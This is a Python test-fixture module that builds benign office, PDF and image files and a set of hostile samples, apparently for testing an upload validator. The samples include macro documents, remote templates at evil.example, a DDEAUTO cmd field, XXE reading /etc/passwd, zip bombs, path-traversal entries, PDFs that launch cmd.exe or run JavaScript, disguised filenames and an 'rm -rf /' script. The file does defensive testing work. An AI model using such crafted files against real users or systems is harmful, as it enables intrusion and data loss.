"""Files for the tests of documents: benign ones as offices make them, hostile ones as they come in the mail."""

import io
import struct
import zipfile
import zlib

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAINS = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


def archive(parts, *, packed=zipfile.ZIP_DEFLATED):
    """The bytes of a ZIP with these (name or ZipInfo, content) parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packed) as made:
        for name, content in parts:
            made.writestr(name, content)
    return out.getvalue()


def ooxml(kind="docx", *, rels="", extra=(), types="", main=None, body="<w:p/>"):
    """An office document: `rels` are Relationship elements of its main part, `extra` further parts."""
    part, declared = MAINS[kind]
    folder, name = part.split("/")
    content_types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="{main or declared}"/>{types}</Types>'
    )
    return archive(
        [
            ("[Content_Types].xml", content_types),
            (
                "_rels/.rels",
                f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="{part}"/></Relationships>',
            ),
            (part, f'<w:document xmlns:w="{W}">{body}</w:document>'),
            (f"{folder}/_rels/{name}.rels", f'<Relationships xmlns="{RELS}">{rels}</Relationships>'),
            *extra,
        ]
    )


def relation(kind, target, mode=' TargetMode="External"'):
    """One relationship of the main part."""
    return f'<Relationship Id="x" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def odf(kind="text", *, content="<office:body/>", extra=(), first=True):
    """An OpenDocument file."""
    space = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    )
    mark = (zipfile.ZipInfo("mimetype"), f"application/vnd.oasis.opendocument.{kind}")
    rest = [
        ("content.xml", f"<office:document-content {space}>{content}</office:document-content>"),
        ("META-INF/manifest.xml", "<manifest/>"),
        *extra,
    ]
    return archive([mark, *rest] if first else [*rest, mark])


def pdf(body=b"", *, head=b"", tail=b""):
    """A small PDF with `body` among its objects."""
    return (
        b"%PDF-1.4\n"
        + head
        + b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        + body
        + b"trailer<</Root 1 0 R>>\n%%EOF\n"
        + tail
    )


def packed_pdf(hidden):
    """A PDF whose objects are in a packed stream."""
    data = zlib.compress(hidden)
    return pdf(
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(data)
        + data
        + b"\nendstream endobj\n"
    )


def png(width=2, height=2, *, tail=b""):
    """A picture whose head says it has this size."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rows = zlib.compress(b"\x00" * (1 + 2 * 3) * 2)
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"") + tail


def jpeg(width=8, height=8, *, tail=b""):
    """A picture's skeleton: segments, a scan, an end."""
    app = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00" + b"\x12\x34"
    return b"\xff\xd8" + app + frame + scan + b"\xff\xd9" + tail


def link_entry(name):
    """A ZIP entry that is a symbolic link."""
    entry = zipfile.ZipInfo(name)
    entry.external_attr = 0o120777 << 16
    return entry


def overlapping():
    """A ZIP two of whose entries are the same bytes."""
    whole = bytearray(ooxml(extra=[("word/a.xml", b"<a/>"), ("word/b.xml", b"<a/>")]))
    at = whole.rindex(b"PK\x01\x02", 0, whole.rindex(b"word/b.xml"))
    before = whole.rindex(b"PK\x01\x02", 0, at)
    whole[at + 42 : at + 46] = whole[before + 42 : before + 46]
    return bytes(whole)


def flagged(content):
    """The ZIP with every central entry marked as locked."""
    whole, at = bytearray(content), 0
    while (at := whole.find(b"PK\x01\x02", at)) >= 0:
        whole[at + 8] |= 1
        at += 4
    return bytes(whole)


BENIGN = {
    "report.pdf": pdf(),
    "Report FINAL.PDF": pdf(b"3 0 obj<</Type/Page>>endobj\n"),
    "packed.pdf": packed_pdf(b"7 0 <</Type/Page>>"),
    "note.docx": ooxml(),
    "linked.docx": ooxml(rels=relation("hyperlink", "https://www.un.org/securitycouncil/ctc/")),
    "mail.docx": ooxml(rels=relation("hyperlink", "mailto:office@example.org")),
    "chart.docx": ooxml(extra=[("word/embeddings/Microsoft_Excel_Sheet.xlsx", ooxml("xlsx"))]),
    "matrix.xlsx": ooxml("xlsx"),
    "slides.pptx": ooxml("pptx"),
    "letter.odt": odf(),
    "linked.odt": odf(
        content='<text:a xlink:href="https://www.un.org/">UN</text:a><draw:image xlink:href="Pictures/1.png"/>'
    ),
    "table.ods": odf("spreadsheet"),
    "notes.txt": "Кыргызстан, visit of 3 December\n".encode(),
    "old.txt": "Кыргызстан".encode("cp1251"),
    "wide.txt": "\ufeffКыргызстан\n".encode("utf-16-le"),
    "BMW.txt": b"BMW report: three cars, GIF89 mentioned later\n",
    "rows.csv": b"code,title\r\nKGZ-2019,Visit\r\n",
    "photo.jpg": jpeg(),
    "photo.jpeg": jpeg(tail=b"\x00\x00"),
    "map.png": png(),
    "отчёт о визите.pdf": pdf(),
    "تقرير.docx": ooxml(),
    "报告.pdf": pdf(),
}

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

#: name of the case: (file name, content or what makes a large one, a word the answer must contain)
HOSTILE = {
    "macros in a docx": ("a.docx", ooxml(extra=[("word/vbaProject.bin", b"x")]), "macros"),
    "docm renamed": ("a.docx", ooxml(main=MACRO_MAIN), "macros"),
    "macro type hidden": (
        "a.docx",
        ooxml(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "macros",
    ),
    "old Excel macros": ("a.xlsx", ooxml("xlsx", extra=[("xl/macrosheets/sheet1.xml", "<a/>")]), "macros"),
    "ActiveX": ("a.docx", ooxml(extra=[("word/activeX/activeX1.xml", "<a/>")]), "macros"),
    "program inside": ("a.docx", ooxml(extra=[("word/embeddings/setup.exe", b"MZ")]), "program"),
    "macro document inside": (
        "a.docx",
        ooxml(extra=[("word/embeddings/b.xlsm", ooxml("xlsx", extra=[("xl/vbaProject.bin", b"x")]))]),
        "macros",
    ),
    "attachment in disguise": ("a.docx", ooxml(extra=[("word/embeddings/b.docx", b"MZ\x90")]), "attachment"),
    "nested too deep": ("a.docx", ooxml(extra=[("w/b.docx", ooxml(extra=[("w/c.docx", ooxml())]))]), "nested"),
    "remote template": (
        "a.docx",
        ooxml(rels=relation("attachedTemplate", "http://evil.example/t.dotm")),
        "attachedTemplate",
    ),
    "remote picture": ("a.docx", ooxml(rels=relation("image", "http://evil.example/p.png")), "image"),
    "remote object": ("a.docx", ooxml(rels=relation("oleObject", "file://evil/x")), "oleObject"),
    "link to a share": ("a.docx", ooxml(rels=relation("hyperlink", "file://///evil/share")), "hyperlink"),
    "link that is a script": ("a.docx", ooxml(rels=relation("hyperlink", "javascript:alert(1)")), "hyperlink"),
    "remote without saying so": ("a.docx", ooxml(rels=relation("image", "http://evil.example/p.png", "")), "image"),
    "page chunk": ("a.docx", ooxml(rels=relation("aFChunk", "chunk.html", "")), "aFChunk"),
    "asks another program": ("a.docx", ooxml(body='<w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText>'), "DDE"),
    "foreign entities": ("a.docx", ooxml(extra=[("word/styles.xml", XXE)]), "entities"),
    "foreign entities, wide": (
        "a.docx",
        ooxml(extra=[("word/styles.xml", XXE.replace("<?xml", "<?xml").encode("utf-16"))]),
        "entities",
    ),
    "zip bomb": ("a.docx", lambda: ooxml(extra=[("word/media/big.xml", b"0" * (60 << 20))]), "unpacks"),
    "ten thousand parts": ("a.docx", lambda: ooxml(extra=[(f"w/{n}.xml", "") for n in range(10_000)]), "parts"),
    "overlapping parts": ("a.docx", overlapping(), "unpacks"),
    "way out": ("a.docx", ooxml(extra=[("../../etc/cron.d/x", b"x")]), "outside"),
    "absolute way": ("a.docx", ooxml(extra=[("/etc/passwd", b"x")]), "outside"),
    "backslash way": ("a.docx", ooxml(extra=[("..\\..\\x", b"x")]), "outside"),
    "symbolic link": ("a.docx", ooxml(extra=[(link_entry("word/link"), "/etc/passwd")]), "link"),
    "locked": ("a.docx", flagged(ooxml()), "password"),
    "cut off": ("a.docx", ooxml()[:-30], "damaged"),
    "only a head": ("a.docx", b"PK\x03\x04" + b"\x00" * 100, "damaged"),
    "something behind": ("a.docx", ooxml() + HTML, "hidden"),
    "plain archive": ("a.docx", archive([("x.txt", "x")]), "ZIP archive"),
    "workbook as document": ("a.docx", ooxml("xlsx"), "Excel workbook"),
    "OpenDocument macros": ("a.odt", odf(extra=[("Basic/Standard/Module1.xml", "<a/>")]), "macros"),
    "OpenDocument listener": (
        "a.odt",
        odf(content='<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        "macros",
    ),
    "OpenDocument remote picture": (
        "a.odt",
        odf(content='<draw:image xlink:href="http://evil.example/p.png"/>'),
        "fetch",
    ),
    "OpenDocument share": ("a.odt", odf(content='<text:a xlink:href="file://evil/share">x</text:a>'), "fetch"),
    "OpenDocument entities": ("a.odt", odf(extra=[("styles.xml", XXE)]), "entities"),
    "OpenDocument locked": (
        "a.odt",
        odf(extra=[("META-INF/x.xml", "<a/>")]).replace(b"<manifest/>", b"<manifest/>"),
        None,
    ),
    "web page as PDF": ("a.pdf", HTML, "web page"),
    "drawing as PNG": ("a.png", SVG, "SVG"),
    "program as PDF": ("a.pdf", b"MZ\x90\x00" + b"\x00" * 200, "file of the type"),
    "PDF as text": ("a.txt", pdf(), "PDF document"),
    "web page as text": ("a.txt", b"  \n" + HTML, "web page"),
    "wide web page as text": ("a.txt", "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"), "web page"),
    "script as CSV": ("a.csv", b"#!/bin/sh\nrm -rf /\n", "program"),
    "GIF that is a script": ("a.png", b"GIF89a/*\x00*/=1;alert(1)", "content is"),
    "binary behind text": ("a.txt", b"text\n" * 3000 + b"\x00\x01MZ", "further on"),
    "PDF with a script": ("a.pdf", pdf(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"), "JavaScript"),
    "PDF with a script in disguise": ("a.pdf", pdf(b"4 0 obj<</S/Java#53cript/J#53(x)>>endobj\n"), "JavaScript"),
    "PDF with a packed script": ("a.pdf", packed_pdf(b"4 0 <</S/JavaScript/JS(x)>>"), "JavaScript"),
    "PDF that starts a program": ("a.pdf", pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"), "Launch"),
    "PDF with an attachment": ("a.pdf", pdf(b"4 0 obj<</Type/EmbeddedFile>>endobj\n"), "EmbeddedFile"),
    "PDF with a form that sends": (
        "a.pdf",
        pdf(b"4 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj\n"),
        "SubmitForm",
    ),
    "PDF with a lock": ("a.pdf", pdf(b"trailer<</Encrypt 9 0 R>>\n"), "password"),
    "PDF and archive": ("a.pdf", pdf(tail=ooxml()), "hide"),
    "PDF and web page": ("a.pdf", pdf(head=b"<html><script>alert(1)</script>\n"), "web page"),
    "PDF bomb": ("a.pdf", lambda: packed_pdf(b"0" * (40 << 20)), "unpacks"),
    "PNG flood": ("a.png", png(60_000, 60_000), "too large"),
    "PNG with a tail": ("a.png", png(tail=HTML), "behind"),
    "JPEG flood": ("a.jpg", jpeg(65_000, 65_000), "too large"),
    "JPEG with an archive": ("a.jpg", jpeg(tail=archive([("x", "x")])), "behind"),
    "empty": ("a.pdf", b"", "empty"),
    "drawing": ("a.svg", SVG, "not kept here"),
    "web page": ("a.html", HTML, "not kept here"),
    "macro document by name": ("a.docm", ooxml(main=MACRO_MAIN), "not kept here"),
    "no ending": ("report", pdf(), "not kept here"),
    "two endings": ("report.pdf.exe", pdf(), "not kept here"),
    "reversed ending": ("report\u202efdp.exe", b"MZ", "not kept here"),
    "reversed content": ("report\u202eexe.pdf", b"MZ\x90\x00\x01", "content is"),
    "NUL in the name": ("report.pdf\x00.exe", pdf(), "not kept here"),
}
del HOSTILE["OpenDocument locked"]


def hostile(case):
    """One case; what is large is made when it is asked for."""
    name, content, word = HOSTILE[case]
    return name, content() if callable(content) else content, word
